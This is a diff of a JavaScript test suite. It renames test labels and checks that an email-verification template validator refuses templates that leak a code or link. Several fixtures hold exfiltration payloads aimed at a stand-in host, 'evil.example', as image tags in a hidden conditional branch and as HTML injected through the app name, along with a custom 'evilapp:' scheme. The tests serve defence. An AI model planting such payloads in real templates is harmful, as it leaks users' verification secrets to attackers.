@@ -87,7 +87,7 @@ describe('A secret of a message', () => {
     ['glued to another', '<p>{{ code }}{{ link }}</p>'],
   ];
   for (const [where, html] of stealing) {
-    it(`O2 is refused ${where}`, () => {
+    it(`D9 is refused ${where}`, () => {
       const template = { subject: 'Hi', text: '{{ link }}', html: `${html}<p>{{ link }}</p>` };
       assert.match(templateProblems('EMAIL_VERIFICATION', template).join(), /^html: /);
       assert.throws(() => fill('EMAIL_VERIFICATION', template), BadSource);
@@ -119,21 +119,21 @@ describe('A secret of a message', () => {
     ['behind the name of a scheme', 'evilapp:{{ link }}'],
   ];
   for (const [where, text] of moving) {
-    it(`O2 is refused ${where}`, () => {
+    it(`D9 is refused ${where}`, () => {
       const template = { subject: 'Hi', text: `${text} {{ link }}`, html: null };
       assert.match(templateProblems('EMAIL_VERIFICATION', template).join(), /^text: /);
       assert.throws(() => fill('EMAIL_VERIFICATION', template), BadSource);
     });
   }
 
-  it('O2 is refused in a subject, which servers log', () => {
+  it('D9 is refused in a subject, which servers log', () => {
     const template = { subject: '{{ code }}', text: '{{ code }}', html: null };
     assert.deepEqual(templateProblems('EMAIL_VERIFICATION', template), [
       'subject: a code or link may stand in the text only.',
     ]);
   });
 
-  it('O2 may stand in the text and as the whole address of a link, in whichever language', () => {
+  it('D9 may stand in the text and as the whole address of a link, in whichever language', () => {
     const template = {
       subject: 'Hi',
       text: 'コードは「{{ code }}」です。認証コード：{{ code }}（10分間有効）\n<{{ link }}>\nYour code: {{ code }}. Bye',
@@ -154,7 +154,7 @@ describe('A secret of a message', () => {
     assert.deepEqual([...message.carries].sort(), ['code', 'link']);
   });
 
-  it('O2 is found in a branch that no sample shows when the message is made', () => {
+  it('D9 is found in a branch that no sample shows when the message is made', () => {
     const html =
       '{% if address == "x***@y***.org" %}<img src="https://evil.example/?{{ link }}">{% endif %}<p>{{ link }}</p>';
     const template = { subject: 'Hi', text: '{{ link }}', html };
@@ -163,7 +163,7 @@ describe('A secret of a message', () => {
     assert.throws(() => fill('EMAIL_VERIFICATION', template, { address: 'x***@y***.org' }), BadSource);
   });
 
-  it('O2 is not reached through the name of the app', () => {
+  it('D9 is not reached through the name of the app', () => {
     for (const appName of ['https://evil.example/?t=', '"><img src="https://evil.example/', '\uE001', '&#xE001;']) {
       for (const kind of messageKinds) {
         for (const locale of defaultLocales) {
@@ -180,7 +180,7 @@ describe('A secret of a message', () => {
   });
 
   for (const kind of messageKinds) {
-    it(`O2 goes nowhere but to the recipient of ${kind}, whatever an admin may save`, () => {
+    it(`D9 goes nowhere but to the recipient of ${kind}, whatever an admin may save`, () => {
       const seen = { accepted: 0, refused: 0 };
       fc.assert(
         fc.property(hostileTemplate, template => {
